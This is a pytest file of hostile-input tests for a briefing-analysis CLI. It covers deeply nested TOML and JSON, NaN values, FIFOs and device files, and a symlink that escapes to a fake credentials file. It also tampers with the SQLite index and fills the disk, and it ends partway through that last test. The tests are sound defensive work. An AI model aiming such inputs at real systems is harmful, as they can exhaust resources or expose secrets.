"""Hostile input: every case of the adversarial run (HARDENING.md, F1-F24) as a test.

Each failure class is a section below, named by its F-number. The promise is
the same everywhere: bad input is one line on stderr naming the file, exit 2,
no traceback, nothing half-written, never a hang; output never carries a
control character or a forged line.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from consistency.cli import cli
from consistency.models import Document

ROOT = Path(__file__).parent.parent
BRIEFINGS = ROOT / "fixtures" / "briefings"
POINTS = ROOT / "fixtures" / "talking-points.toml"
FIRST = "000_0c46398071a3ed71.txt"
"""The seed dated 2025-10-22 by the fixtures' manifest; the gate's usual 'new' briefing."""


def run(*args: str | Path) -> tuple[int, str, str]:
    """The CLI through CliRunner: (exit code, stdout, stderr)."""
    result = CliRunner().invoke(cli, [str(a) for a in args], prog_name="consistency")
    return result.exit_code, result.stdout, result.stderr


def proc(
    *args: str | Path, cwd: Path | None = None, stdin: int | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    """The CLI as a real process (``python -m consistency``)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT), "NO_COLOR": "1"}
    return subprocess.run(
        [sys.executable, "-m", "consistency", *map(str, args)],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        stdin=stdin,
        timeout=timeout,
        check=False,
    )


def one_error(code: int, err: str, *names: str) -> None:
    """Exit 2 and exactly one ``consistency: error:`` line that names ``names``."""
    assert code == 2, err
    assert "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("consistency: error: ")
    for name in names:
        assert name in lines[0], (name, lines[0])


@pytest.fixture
def fx(tmp_path: Path) -> Path:
    """A copy of fixtures/briefings (dated by its manifest) and the watchlist beside it."""
    shutil.copytree(BRIEFINGS, tmp_path / "fx")
    shutil.copy(POINTS, tmp_path / "tp.toml")
    return tmp_path / "fx"


def gate(fx: Path, *more: str | Path, against: Path | None = None) -> list[str | Path]:
    """``check`` of the 2025-10-22 seed against the earlier seeds (2 findings with tp.toml)."""
    return [
        "check",
        fx / FIRST,
        "--date",
        "2025-10-22",
        "--against",
        fx if against is None else against,
        "--until",
        "2025-10-21",
        *more,
    ]


# F1 Deeply nested TOML -----------------------------------------------------------------


@pytest.mark.parametrize(
    "toml",
    ["x=" + "[" * 100_000 + "]" * 100_000 + "\n", "x=" + "{a=" * 5000 + "1" + "}" * 5000 + "\n"],
    ids=["arrays", "inline-tables"],
)
def test_f1_deep_watchlist_is_one_error(fx: Path, toml: str) -> None:
    deep = fx.parent / "deep.toml"
    deep.write_text(toml)
    code, _, err = run("--no-config", "track", fx, "--points", deep)
    one_error(code, err, "deep.toml", "nested too deeply")


def test_f1_deep_config_named_or_ignored(
    fx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    deep = "x=" + "[" * 100_000 + "]" * 100_000 + "\n"
    found = tmp_path / "cfgdeep"
    found.mkdir()
    (found / "pyproject.toml").write_text(deep)
    monkeypatch.chdir(found)
    # A pyproject.toml is only a configuration with [tool.consistency]; one that cannot be
    # read as TOML is no configuration (as for any invalid pyproject.toml).
    code, out, _ = run("ingest", fx)
    assert code == 0 and "000_0c46398071a3ed71" in out
    (found / "consistency.toml").write_text(deep)
    code, _, err = run("ingest", fx)
    one_error(code, err, "consistency.toml", "nested too deeply")
    code, _, err = run("--config", found / "pyproject.toml", "ingest", fx)
    one_error(code, err, "pyproject.toml", "nested too deeply")


# F2 Config values of the wrong type -----------------------------------------------------


@pytest.mark.parametrize(
    ("config", "key", "command"),
    [
        ('manifest = ["a.csv","b.csv"]\n', "'manifest'", ["report", "{fx}"]),
        ("points = 5\n", "'points'", ["check", "{fx}/" + FIRST, "--against", "{fx}"]),
        ("top = 1e400\n", "'top'", ["report", "{fx}", "--points", "{tp}"]),
        ("threshold = nan\n", "'threshold'", ["check", "{fx}/" + FIRST, "--against", "{fx}"]),
        ("threshold = 'high'\n", "'threshold'", ["report", "{fx}", "--points", "{tp}"]),
        ("top = 0\n", "'top'", ["report", "{fx}"]),
        ("include-questions = 'yes'\n", "'include-questions'", ["report", "{fx}"]),
        (
            "[check]\nsimilarity = -inf\n",
            "'check.similarity'",
            ["check", "{fx}", "--against", "{fx}"],
        ),
        ("speaker = [1, 2]\n", "'speaker'", ["report", "{fx}"]),
        ("since = 1979-05-27T07:32:00Z\n", "'since'", ["report", "{fx}"]),
    ],
)
def test_f2_config_type_errors_name_file_and_key(
    fx: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    config: str,
    key: str,
    command: list[str],
) -> None:
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "consistency.toml").write_text(config)
    monkeypatch.chdir(folder)
    args = [a.format(fx=fx, tp=tmp_path / "tp.toml") for a in command]
    code, _, err = run(*args)
    one_error(code, err, str(folder / "consistency.toml"), key)


# F3 nan thresholds -------------------------------------------------------------------------


def test_f3_the_gate_fails_on_its_findings(fx: Path) -> None:
    code, out, _ = run("--no-config", *gate(fx, "--points", fx.parent / "tp.toml"))
    assert code == 1 and out.count("shifted") >= 2


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "+nan"])
@pytest.mark.parametrize("option", ["--threshold", "--similarity"])
def test_f3_nan_threshold_refused(fx: Path, option: str, value: str) -> None:
    code, _, err = run("--no-config", *gate(fx, "--points", fx.parent / "tp.toml", option, value))
    one_error(code, err, option)


def test_f3_nan_threshold_in_config_refused(fx: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (fx.parent / "consistency.toml").write_text("threshold = nan\n")
    monkeypatch.chdir(fx.parent)
    result = proc(*gate(fx, "--points", fx.parent / "tp.toml"))
    one_error(result.returncode, result.stderr, "consistency.toml", "'threshold'")


def test_f3_library_refuses_nan_threshold(fx: Path) -> None:
    from consistency import OptionError, load_documents, load_watchlist, track

    docs = load_documents([fx])
    with pytest.raises(OptionError, match="threshold"):
        track(docs, load_watchlist(fx.parent / "tp.toml"), threshold=float("nan"))


# F4 Huge manifest fields --------------------------------------------------------------------


def test_f4_manifest_field_past_csv_limit(fx: Path) -> None:
    folder = fx.parent / "m"
    folder.mkdir()
    shutil.copy(fx / FIRST, folder / "a.txt")
    (folder / "manifest.csv").write_text(
        'path,date\n"' + "x" * 200_000 + '",2025-10-22\na.txt,2025-10-22\n'
    )
    code, _, err = run("--no-config", "ingest", folder)
    assert code == 2 and "Traceback" not in err
    first = err.splitlines()[0]
    assert first.startswith("consistency: error: ")
    assert "manifest.csv:2: malformed CSV" in first and len(first) < 300
    # the file it lists is undated because of it, and says so rather than asking for one
    assert "a.txt: no date found (" in err and "could not be read: see above)" in err


def test_f4_undated_file_without_a_manifest_is_not_blamed_on_another(
    fx: Path, tmp_path: Path
) -> None:
    broken, plain = tmp_path / "broken", tmp_path / "plain"
    for folder in (broken, plain):
        folder.mkdir()
        shutil.copy(fx / FIRST, folder / "a.txt")
    (broken / "manifest.csv").write_text("path,date\na.txt,someday\n")
    code, _, err = run("--no-config", "ingest", broken, plain)
    assert code == 2
    lines = err.splitlines()
    assert any("broken/a.txt: no date found (" in line for line in lines), err
    assert any("plain/a.txt: no date found;" in line for line in lines), err


def test_f4_a_date_given_is_not_blocked_by_a_broken_manifest_beside(tmp_path: Path) -> None:
    """A second review: ``--date`` names the day, yet the broken ``manifest.csv`` beside the
    briefing failed the run."""
    (tmp_path / "b.txt").write_text("SPOKESPERSON: We stand for dialogue.\n")
    (tmp_path / "manifest.csv").write_text("path,date\nb.txt,2025-02-30\n")
    code, out, err = run("--no-config", "ingest", tmp_path / "b.txt", "--date", "2025-03-03")
    assert code == 0 and "2025-03-03" in out, err


def test_f4_broken_manifest_given_by_option_is_named(fx: Path, tmp_path: Path) -> None:
    briefing = tmp_path / "briefing.txt"
    briefing.write_text("SPOKESPERSON: We stand for dialogue and consultation.\n")
    (tmp_path / "list.csv").write_text("path,date\nbriefing.txt,2025-13-45\n")
    code, _, err = run("--no-config", "ingest", briefing, "--manifest", tmp_path / "list.csv")
    assert code == 2
    assert "list.csv, which may date it, could not be read" in err.splitlines()[-1], err


def test_f4_manifest_limit_holds_after_a_briefing_csv(fx: Path, tmp_path: Path) -> None:
    """The csv module's field limit is process-wide: reading a briefing CSV (whose texts
    need a higher one) first used to lift it for every manifest after, and the 200,000
    character cell then came out as a 200,000-character "no such file" line."""
    import csv

    from consistency.ingest import load_documents

    rows = tmp_path / "rows.csv"
    rows.write_text('date,text\n2025-10-22,"' + "word " * 40_000 + '"\n', encoding="utf-8")
    assert len(load_documents([rows])) == 1
    assert csv.field_size_limit() == 128 * 1024
    test_f4_manifest_field_past_csv_limit(fx)


# F5 JSONL rows: huge integer, deep nesting --------------------------------------------------


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ('{"date":"2025-01-01","text":' + "9" * 5000 + "}", "number too long"),
        ('{"a":' * 100_000 + "1" + "}" * 100_000, "nested too deeply"),
        ("[" * 100_000 + '"words"' + "]" * 100_000, "nested too deeply"),
    ],
    ids=["digits", "objects", "arrays"],
)
def test_f5_hostile_json_rows(tmp_path: Path, row: str, message: str) -> None:
    rows = tmp_path / "rows.jsonl"
    rows.write_text(row + "\n")
    code, _, err = run("--no-config", "ingest", rows)
    one_error(code, err, "rows.jsonl:1", message)


# F6 Lone surrogates -------------------------------------------------------------------------


@pytest.fixture
def surrogate(tmp_path: Path) -> Path:
    rows = tmp_path / "sur.jsonl"
    text = "We uphold peace \ud800 and stability."
    rows.write_text(json.dumps({"id": "s1\udfff", "date": "2025-03-02", "text": text}) + "\n")
    return rows


@pytest.mark.parametrize(
    "command",
    [
        ["ingest", "{f}"],
        ["ingest", "{f}", "--format", "json"],
        ["report", "{f}", "--min-dates", "1"],
        ["report", "{f}", "--min-dates", "1", "--format", "csv"],
        ["index", "{f}", "--db", "{d}"],
    ],
)
def test_f6_lone_surrogate_becomes_replacement_character(
    surrogate: Path, command: list[str]
) -> None:
    args = [a.format(f=surrogate, d=surrogate.with_suffix(".db")) for a in command]
    result = proc("--no-config", *args)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr


def test_f6_surrogate_text_is_replaced_and_id_escaped(surrogate: Path) -> None:
    from consistency import load_documents

    (doc,) = load_documents([surrogate])
    assert doc.text == "We uphold peace \ufffd and stability."
    assert doc.id == "s1\\udfff"
    doc.text.encode("utf-8")


# F7 Closed standard input -----------------------------------------------------------------


def test_f7_closed_stdin() -> None:
    script = (
        "import os, sys, runpy; os.close(0); sys.stdin = None; "
        "sys.argv = ['consistency', '--no-config', 'ingest', '-', '--date', '2025-01-01']; "
        "runpy.run_module('consistency', run_name='__main__')"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, check=False
    )
    one_error(result.returncode, result.stderr, "<stdin>", "standard input is closed")


def test_f7_closed_stdin_real_shell() -> None:
    result = subprocess.run(
        f"exec {sys.executable} -m consistency --no-config ingest - --date 2025-01-01 <&-",
        shell=True,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=False,
    )
    one_error(result.returncode, result.stderr, "<stdin>")


# F23 Multi-line error messages --------------------------------------------------------------


def test_f23_newline_in_a_manifest_cell_is_one_error_line(fx: Path) -> None:
    folder = fx.parent / "mq"
    folder.mkdir()
    shutil.copy(fx / FIRST, folder / "a.txt")
    (folder / "manifest.csv").write_text('path,date\n"a.txt\n,2025-10-22\n')
    code, _, err = run("--no-config", "ingest", folder)
    assert code == 2 and "Traceback" not in err
    assert all(line.startswith("consistency: error: ") for line in err.splitlines()), err
    assert "a.txt\\n,2025-10-22" in err


def test_f23_errors_are_always_one_line() -> None:
    from consistency.errors import InputError

    message = str(InputError("bad\nvalue\x1b[2J\u202e", path="a\nb.txt", line=3))
    assert message == "a\\nb.txt:3: bad\\nvalue\\x1b[2J\\u202e"


# F8 Special files in an input folder --------------------------------------------------------


def _folder_with(fx: Path, name: str) -> Path:
    folder = fx.parent / name
    folder.mkdir()
    shutil.copy(fx / FIRST, folder / "2025-10-22_a.txt")
    return folder


def test_f8_fifo_in_a_folder_is_an_error_not_a_hang(fx: Path) -> None:
    folder = _folder_with(fx, "p")
    os.mkfifo(folder / "2025-10-23_pipe.txt")
    result = proc("--no-config", "ingest", folder, timeout=30)
    one_error(result.returncode, result.stderr, "2025-10-23_pipe.txt", "FIFO")


def test_f8_fifo_named_manifest_is_an_error_not_a_hang(fx: Path) -> None:
    folder = _folder_with(fx, "pm")
    os.mkfifo(folder / "manifest.csv")
    result = proc("--no-config", "ingest", folder, timeout=30)
    assert result.returncode == 2
    assert "manifest.csv: not a regular file (a FIFO)" in result.stderr


def test_f8_link_to_dev_zero_is_refused(fx: Path) -> None:
    folder = _folder_with(fx, "z")
    (folder / "2025-10-23_zero.txt").symlink_to("/dev/zero")
    result = proc("--no-config", "ingest", folder, timeout=30)
    one_error(result.returncode, result.stderr, "2025-10-23_zero.txt", "/dev/zero")


def test_f8_device_node_inside_the_folder_is_refused(fx: Path) -> None:
    folder = _folder_with(fx, "d")
    try:
        os.mknod(folder / "2025-10-23_zero.txt", 0o666 | 0o020000, os.makedev(1, 5))
    except (PermissionError, OSError) as e:
        pytest.skip(f"cannot make a device node here: {e}")
    code, _, err = run("--no-config", "ingest", folder)
    one_error(code, err, "2025-10-23_zero.txt", "character device")


def test_f8_a_pipe_named_on_the_command_line_is_read(fx: Path) -> None:
    text = (fx / FIRST).read_text()
    result = subprocess.run(
        f"exec {sys.executable} -m consistency --no-config ingest --format json "
        f"--date 2025-10-22 <(cat {FIRST})",
        shell=True,
        executable="/bin/bash",
        cwd=fx,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=False,
    )
    assert result.returncode == 0, result.stderr
    (doc,) = json.loads(result.stdout)["documents"]
    assert doc["words"]["official"] > 0 and len(text) > 1000


def test_f8_a_fifo_named_on_the_command_line_waits_for_its_writer(fx: Path) -> None:
    fifo = fx.parent / "2025-10-22_pipe.txt"
    os.mkfifo(fifo)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    reader = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "consistency",
            "--no-config",
            "ingest",
            str(fifo),
            "--format",
            "json",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    with open(fifo, "w") as writer:  # blocks until the reader has opened the FIFO
        writer.write((fx / FIRST).read_text())
    out, err = reader.communicate(timeout=60)
    assert reader.returncode == 0, err
    (doc,) = json.loads(out)["documents"]
    assert doc["date"] == "2025-10-22" and doc["words"]["official"] > 0


# F9 Symlinked sub-folders, F10 symlinks out of the tree -------------------------------------


@pytest.fixture
def linked(fx: Path) -> Path:
    """s/real (3 briefings), s/arch (1 briefing) with s/arch/linked -> ../real."""
    s = fx.parent / "s"
    (s / "real").mkdir(parents=True)
    (s / "arch").mkdir()
    for f in sorted(fx.glob("00[0-2]*.txt")):
        shutil.copy(f, s / "real" / f.name)
    shutil.copy(next(fx.glob("003*.txt")), s / "arch")
    (s / "real" / "manifest.csv").write_text("path,date\n000_0c46398071a3ed71.txt,2025-10-22\n")
    (s / "arch" / "manifest.csv").write_text("path,date\n003_28ddfdb37133726e.txt,2025-05-20\n")
    (s / "arch" / "linked").symlink_to("../real")
    return s


def _ids(out: str) -> list[str]:
    return [d["id"] for d in json.loads(out)["documents"]]


def test_f9_symlinked_folder_inside_the_tree_is_read(linked: Path) -> None:
    (linked / "arch" / "linked").unlink()
    (linked / "arch" / "linked").symlink_to(linked / "real")
    (linked / "real" / "again").symlink_to("..")  # a loop: s/real/again -> s
    code, out, err = run("--no-config", "ingest", linked, "--format", "json")
    assert code == 0, err
    # every briefing once, under its own (first walked) folder; the loop ends
    assert sorted(_ids(out)) == [
        "arch/003_28ddfdb37133726e",
        "real/000_0c46398071a3ed71",
        "real/001_ea51057881414630",
        "real/002_4a5ca9b62894acf8",
    ]


def test_f9_symlinked_folder_only_reachable_through_the_link(linked: Path) -> None:
    inner = linked / "arch" / "inner"
    (linked / "arch" / "linked").unlink()
    shutil.move(linked / "real", inner)
    (linked / "arch" / "linked").symlink_to("inner")
    code, out, err = run("--no-config", "ingest", linked / "arch", "--format", "json")
    assert code == 0, err
    assert len(_ids(out)) == 4


def test_f9_symlinked_folder_out_of_the_tree_is_not_silently_skipped(linked: Path) -> None:
    result = proc("--no-config", "ingest", linked / "arch")
    one_error(result.returncode, result.stderr, "arch/linked", "symbolic link out of")


@pytest.fixture
def secret_link(fx: Path) -> Path:
    (fx.parent / "secret").mkdir()
    (fx.parent / "secret" / "creds").write_text(
        "API_TOKEN=ghp_Secret123\nThe spokesperson said ok.\n"
    )
    ex = _folder_with(fx, "ex")
    (ex / "2025-10-23_x.txt").symlink_to("../secret/creds")
    return ex


@pytest.mark.parametrize("command", ["ingest", "index", "report"])
def test_f10_symlink_out_of_the_tree_is_refused(secret_link: Path, command: str) -> None:
    db = secret_link.parent / "ex.db"
    extra = ["--db", str(db)] if command == "index" else []
    code, out, err = run("--no-config", command, secret_link, *extra)
    one_error(code, err, "2025-10-23_x.txt", "symbolic link out of")
    assert "ghp_Secret123" not in out
    assert not db.exists()


def test_f10_a_link_named_on_the_command_line_is_read(secret_link: Path) -> None:
    code, out, err = run(
        "--no-config", "ingest", secret_link / "2025-10-23_x.txt", "--format", "json"
    )
    assert code == 0, err
    assert _ids(out) == ["2025-10-23_x"]


# F11 Deeply nested HTML ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("opening", "closing"),
    [("<div>", "</div>"), ("<div><span><b>", "</b></span></div>"), ("<ul><li>", "</li></ul>")],
    ids=["div", "mixed", "lists"],
)
def test_f11_deep_html_is_flattened_and_its_text_kept(
    tmp_path: Path, opening: str, closing: str
) -> None:
    page = tmp_path / "2025-01-01_deep.html"
    depth = 200_000 // len(opening) * 5
    page.write_text(
        "<html><body>" + opening * depth + "We uphold peace." + closing * depth + "</body></html>"
    )
    code, out, err = run("--no-config", "ingest", page, "--format", "json")
    assert code == 0, err
    (doc,) = json.loads(out)["documents"]
    assert doc["words"]["narration"] == 3


def test_f11_bounded_depth_leaves_ordinary_pages_alone() -> None:
    from consistency.ingest.html import MAX_DEPTH, bounded_depth, html_to_page

    page = "<html><body><div><p>One.</p><p>Two <b>bold</b></p></div></body></html>"
    assert bounded_depth(page) is page
    deep = "<div>" * (MAX_DEPTH + 50) + "<p>Deep words.</p>" + "</div>" * (MAX_DEPTH + 50)
    flat = bounded_depth(deep)
    assert flat.count("<div>") == MAX_DEPTH and flat.count("</div>") == MAX_DEPTH
    assert html_to_page(flat).text == "Deep words."


# F12 Algorithmic blow-ups on periodic text --------------------------------------------------


def _periodic_docs(unit: str, times: int, dates: Sequence[str]) -> list[Document]:
    from consistency import document_from_text

    return [
        document_from_text(unit * times, id=f"{d}_p", date=dt.date.fromisoformat(d)) for d in dates
    ]


@pytest.mark.parametrize("unit", ["x\n", "x y\n", "we uphold peace and stability "])
@pytest.mark.parametrize("times", [2_000, 20_000])
def test_f12_a_periodic_sentence_costs_discovery_one_piece(unit: str, times: int) -> None:
    """The work of discovery no longer grows with the length of a periodic sentence:
    it holds MAX_CLAUSE words per phase of the period (and the rest), however long."""
    from consistency.discover.corpus import MAX_CLAUSE, _Corpus

    docs = _periodic_docs(unit, times, ["2025-01-01", "2025-01-02"])
    corpus = _Corpus(
        docs, include_questions=False, speakers=(), tokeniser=None, progress=lambda n: None
    )
    assert len(corpus.ids) <= 2 * (len(unit.split()) + 1) * MAX_CLAUSE
    assert max(corpus.room) <= MAX_CLAUSE


@pytest.mark.parametrize("unit", ["x\n", "x y\n", "peace and stability of the region\n"])
def test_f12_periodic_text_is_no_talking_point(unit: str) -> None:
    from consistency import discover

    docs = _periodic_docs(unit, 5_000, ["2025-01-01", "2025-01-02"])
    assert discover(docs, min_dates=1) == []


def test_f12_real_formulas_inside_periodic_noise_still_found() -> None:
    from consistency import discover, document_from_text

    formula = "China firmly opposes any form of interference in its internal affairs."
    docs = [
        document_from_text(
            f"{d}\n\n{formula}\n" + "x y\n" * 2_000, id=d, date=dt.date.fromisoformat(d)
        )
        for d in ("2025-01-01", "2025-01-02", "2025-01-03")
    ]
    texts = [p.point.text for p in discover(docs)]
    assert any("interference in its internal affairs" in t for t in texts), texts


@pytest.fixture
def xy(fx: Path) -> Path:
    folder = fx.parent / "xy"
    shutil.copytree(fx, folder)
    (folder / "2025-01-01_xy.txt").write_text("x y\n" * 2000)
    (folder / "2025-01-02_xy.txt").write_text("x y\n" * 2000)
    return folder


def test_f12_index_and_check_on_periodic_files(fx: Path, xy: Path) -> None:
    db = fx.parent / "xy.db"
    code, out, err = run("--no-config", "index", xy, "--db", db)
    assert code == 0, err
    assert out.startswith("7 added")
    code, out, err = run("--no-config", *gate(fx, against=xy))
    assert code in (0, 1), err
    assert "Checked 1 new briefing against 6 briefings" in out
    code, out, err = run("--no-config", *gate(fx, against=db))
    assert code in (0, 1), err


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("2025-01-01_x.txt", "x\n" * 10_000),
        ("2025-01-02_line.txt", "x " * 200_000),
        (
            "2025-01-06_wide.html",
            "<html><body><table><tr>" + "<td>x</td>" * 20_000 + "</tr></table></body></html>",
        ),
    ],
    ids=["repeated-line", "single-line", "wide-table"],
)
def test_f12_report_on_periodic_input_ends(tmp_path: Path, name: str, content: str) -> None:
    page = tmp_path / name
    page.write_text(content)
    code, out, err = run("--no-config", "report", page, "--min-dates", "1")
    assert code == 0, err
    assert "No talking points." in out
    assert "no formulation recurs" in err


# F13 A killed first build, F14 concurrent first builds ----------------------------------------

_BUILD = """
import os, signal, sys, time
from consistency import load_documents
from consistency.index import update_index
docs = load_documents([sys.argv[2]])
mode = sys.argv[3]
def discoverer(stored):
    if mode == "kill":
        os.kill(os.getpid(), signal.SIGKILL)
    time.sleep(0.3)
    return []
docs = docs[:3] if mode == "first" else docs[3:] if mode == "last" else docs
print(update_index(sys.argv[1], docs, discoverer=discoverer).added)
"""


def _build(db: Path, folder: Path, mode: str) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen(
        [sys.executable, "-c", _BUILD, str(db), str(folder), mode],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )


def _names(db: Path) -> list[str]:
    from consistency.index import Index

    with Index(db) as index:
        return sorted(d.id for d in index.documents())


def test_f13_a_build_killed_before_its_commit_leaves_no_index(fx: Path) -> None:
    db = fx.parent / "k.db"
    killed = _build(db, fx, "kill")
    killed.communicate(timeout=60)
    assert killed.returncode == -9
    assert not db.exists()  # the half-built file is a hidden temporary, never k.db
    leftovers = list(fx.parent.glob(".k.db.*"))
    assert leftovers
    code, out, err = run("--no-config", "index", fx, "--db", db)
    assert code == 0, err
    assert out.startswith("5 added")
    assert not list(fx.parent.glob(".k.db.*"))  # the killed build's files were swept


def test_f13_an_empty_database_left_by_a_killed_build_is_built_over(fx: Path) -> None:
    import sqlite3

    db = fx.parent / "old.db"
    con = sqlite3.connect(db)
    con.execute("PRAGMA journal_mode=WAL")
    con.close()
    code, out, err = run("--no-config", "index", fx, "--db", db)
    assert code == 0, err
    code, out, err = run("--no-config", "index", fx, "--db", db, "--rebuild")
    assert code == 0, err
    assert out.startswith("5 added")


def test_f14_concurrent_first_builds_lose_nothing(fx: Path) -> None:
    db = fx.parent / "race.db"
    a, b = _build(db, fx, "first"), _build(db, fx, "last")
    out_a, err_a = a.communicate(timeout=60)
    out_b, err_b = b.communicate(timeout=60)
    assert (a.returncode, b.returncode) == (0, 0), err_a + err_b
    assert (int(out_a), int(out_b)) == (3, 2)
    assert len(_names(db)) == 5  # both runs' documents: neither replaced the other's index


def test_f14_concurrent_index_commands(fx: Path) -> None:
    db = fx.parent / "race.db"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [
        sys.executable,
        "-m",
        "consistency",
        "--no-config",
        "index",
        str(fx),
        "--db",
        str(db),
    ]
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=env) for _ in range(2)]
    outs = [r.communicate(timeout=60)[0] for r in runs]
    assert [r.returncode for r in runs] == [0, 0]
    assert sorted(o.split(",")[0] for o in outs) == ["0 added", "5 added"]
    assert len(_names(db)) == 5


# F15 Damaged or tampered index, F16 read-only and immutable index -----------------------------


@pytest.fixture
def fxdb(fx: Path) -> Path:
    db = fx.parent / "fx.db"
    code, _, err = run("--no-config", "index", fx, "--db", db)
    assert code == 0, err
    return db


@pytest.mark.parametrize(
    ("sql", "check_reads_it"),
    [
        ("update documents set date='garbage' where id=3", True),
        ("drop table points", True),
        ("update sentences set role='emperor'", True),
        ("update sentences set spans=x'00'", True),
        ("update points set data='[1,2'", True),
        ("update points set data=json_set(data,'$.level','fatal')", True),
        ("update documents set date=5", True),
        ("drop table sentences", True),
        ("update documents set turns='[1]'", False),
    ],
)
def test_f15_tampered_index_is_one_error(
    fx: Path, fxdb: Path, sql: str, check_reads_it: bool
) -> None:
    import sqlite3

    con = sqlite3.connect(fxdb)
    con.execute(sql)
    con.commit()
    con.close()
    extra = fx.parent / "2026-01-01_n.txt"
    extra.write_text("2026-01-01\n\nWe uphold peace and stability in the region.\n")
    code, _, err = run("--no-config", *gate(fx, "--fail-on", "shifted,rephrased", against=fxdb))
    if check_reads_it:
        one_error(code, err, str(fxdb))
    else:
        assert code in (0, 1), err
    for command in (["index", fx, "--db", fxdb], ["index", fx, extra, "--db", fxdb]):
        code, _, err = run("--no-config", *command)
        if code != 0:
            one_error(code, err, str(fxdb))
    code, out, err = run("--no-config", "index", fx, "--db", fxdb, "--rebuild")
    assert code == 0, err
    assert out.startswith("5 added")


def test_f15_corrupted_pages_are_one_error_and_rebuild_recovers(fx: Path, fxdb: Path) -> None:
    import random

    size = fxdb.stat().st_size
    rng = random.Random(5)
    with open(fxdb, "r+b") as f:
        for _ in range(20):
            f.seek(rng.randrange(4096, size - 1024))
            f.write(rng.randbytes(512))
    result = proc("--no-config", *gate(fx, against=fxdb))
    assert result.returncode == 2, result.stderr
    assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr
    assert "damaged consistency index" in result.stderr
    code, _, err = run("--no-config", "index", fx, "--db", fxdb)
    one_error(code, err, str(fxdb), "damaged consistency index")
    code, _, err = run("--no-config", "index", fx, "--db", fxdb, "--rebuild")
    assert code == 0, err
    assert _names(fxdb)


def test_f15_text_that_is_not_utf8_is_one_error_with_its_quotes_closed(fxdb: Path) -> None:
    """sqlite3 quotes the whole undecodable text, lines and all: the error line named the
    column and then only the text's first line, its quote left open."""
    import sqlite3

    con = sqlite3.connect(fxdb)
    con.execute("update documents set text = cast(x'41ff0a420a43' as text) where id = 2")
    con.commit()
    con.close()
    for command in (["report", "--index", fxdb], ["discover", "--index", fxdb]):
        code, _, err = run("--no-config", *command)
        one_error(code, err, str(fxdb), "damaged consistency index")
        assert "(Could not decode to UTF-8 column 'text'); rebuild it with " in err


def test_f15_rebuild_never_replaces_another_programs_database(fx: Path) -> None:
    import sqlite3

    other = fx.parent / "other.db"
    con = sqlite3.connect(other)
    con.execute("create table t (x)")
    con.commit()
    con.close()
    before = other.read_bytes()
    code, _, err = run("--no-config", "index", fx, "--db", other, "--rebuild")
    one_error(code, err, "other.db", "another program")
    assert other.read_bytes() == before


def _root_only(*command: str) -> None:
    try:
        subprocess.run(command, check=True, capture_output=True)
    except (OSError, subprocess.CalledProcessError) as e:
        pytest.skip(f"{command[0]} not possible here: {e}")


def test_f16_index_on_a_read_only_file_system(fx: Path, fxdb: Path) -> None:
    ro = fx.parent / "ro"
    ro.mkdir()
    _root_only("mount", "--bind", str(fxdb.parent), str(ro))
    try:
        _root_only("mount", "-o", "remount,ro,bind", str(ro))
        code, out, err = run("--no-config", *gate(fx, against=ro / "fx.db"))
        assert code in (0, 1), err
        assert "Checked 1 new briefing" in out
        code, _, err = run("--no-config", "index", fx, "--db", ro / "fx.db")
        one_error(code, err, "fx.db", "cannot")
        code, _, err = run("--no-config", "index", fx, "--db", ro / "new.db")
        one_error(code, err, "new.db", "Read-only file system")
    finally:
        subprocess.run(["umount", str(ro)], check=False)


def test_f16_immutable_index_file(fx: Path, fxdb: Path) -> None:
    _root_only("chattr", "+i", str(fxdb))
    try:
        before = fxdb.read_bytes()
        (fx / "2026-01-01_n.txt").write_text("2026-01-01\n\nWe uphold peace and stability.\n")
        for extra in ([], ["--rebuild"]):
            code, _, err = run("--no-config", "index", fx, "--db", fxdb, *extra)
            one_error(code, err, str(fxdb), "cannot")
        code, _, err = run("--no-config", *gate(fx, against=fxdb))
        assert code in (0, 1), err
    finally:
        subprocess.run(["chattr", "-i", str(fxdb)], check=False)
    assert fxdb.read_bytes() == before


# F17 Disk full ----------------------------------------------------------------------------------


@pytest.fixture
def tiny(tmp_path: Path) -> Any:
    folder = tmp_path / "tiny"
    folder.mkdir()
    _root_only("mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder))
    yield folder
    subprocess.run(["umount", str(folder)], check=False)


def _fill(folder: Path, leave: int = 0) -> None:
    """Fill the file system of ``folder`` up to ``leave`` bytes (in 4 KiB blocks)."""
    free = os.statvfs(folder).f_bavail * os.statvfs(folder).f_frsize
    try:
        with open(folder / "fill", "wb") as f:
            f.write(b"\0" * max(0, free - leave))
            f.flush()
            while not leave:
                f.write(b"\0" * 4096)
                f.flush()
    except OSError:
        pass


def test_f17_output_on_a_full_disk(fx: Path, tiny: Path) -> None:
    (tiny / "r.txt").write_text("OLD\n")
    _fill(tiny)
